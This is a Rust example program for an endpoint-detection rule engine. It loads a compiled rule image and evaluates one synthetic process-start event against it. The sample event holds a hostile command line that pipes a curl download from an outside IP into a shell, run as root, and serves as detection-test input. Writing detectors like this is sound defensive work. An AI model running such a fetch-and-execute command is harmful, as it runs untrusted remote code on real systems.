//! The smallest sensor: `first-sensor manifest` prints what it supplies, `first-sensor IMAGE` evaluates an event.
#![expect(clippy::print_stdout, clippy::print_stderr, reason = "a sensor of an example prints what it finds")]

use contentcheck_derive::{Event, manifest};
use contentcheck_interpreter::{Event, KillList, OwnedImage};
use core::{error::Error, ops::ControlFlow};
use std::{env, fs, process::ExitCode};

#[derive(Event)]
#[event(content = "rules.content", template = "edr.process_start @ 1")]
struct ProcessStart<'e> {
    image: &'e str,
    command_line: &'e [u8], // whatever bytes the process was given
    pid: u32,
    user: Option<&'e str>,
}

manifest! {
    const MANIFEST = { sensor: "edr", version: "1.0.0", events: [ProcessStart] };
}

fn main() -> ExitCode {
    run().map_or_else(
        |error| {
            eprintln!("first-sensor: {error}");
            ExitCode::FAILURE
        },
        |()| ExitCode::SUCCESS,
    )
}

fn run() -> Result<(), Box<dyn Error>> {
    let argument = env::args().nth(1).ok_or("first-sensor manifest | IMAGE")?;
    if argument == "manifest" {
        print!("{}", MANIFEST.json());
        return Ok(());
    }

    // Once for each image: every record of it is verified, every input bound by name.
    let owned = OwnedImage::load(fs::read(argument)?, &MANIFEST)?;
    let open = owned.open();
    let verified = open.verified();
    let mut scratch = vec![0; verified.scratch_words()];
    println!("loads {} of {} rules", verified.loaded_rules(), verified.image().rule_count());

    // For each event: bound to the template type, evaluated within a budget of steps.
    let start = ProcessStart {
        image: "/bin/sh",
        command_line: b"sh -c curl http://198.51.100.7/x | sh",
        pid: 4711,
        user: Some("root"),
    };
    let inputs = start.values();
    for template in verified.templates_named(ProcessStart::SUPPLY.template) {
        let bound = verified.bind(template, Event { inputs: &inputs, header: &[], others: &[] })?;
        bound.evaluate(&KillList::NONE, &mut scratch, 1_000_000, |rule| {
            if let Some(info) = verified.image().rule(rule) {
                println!("pid {}: {}", start.pid, info.title);
            }
            ControlFlow::Continue(())
        })?;
    }
    Ok(())
}
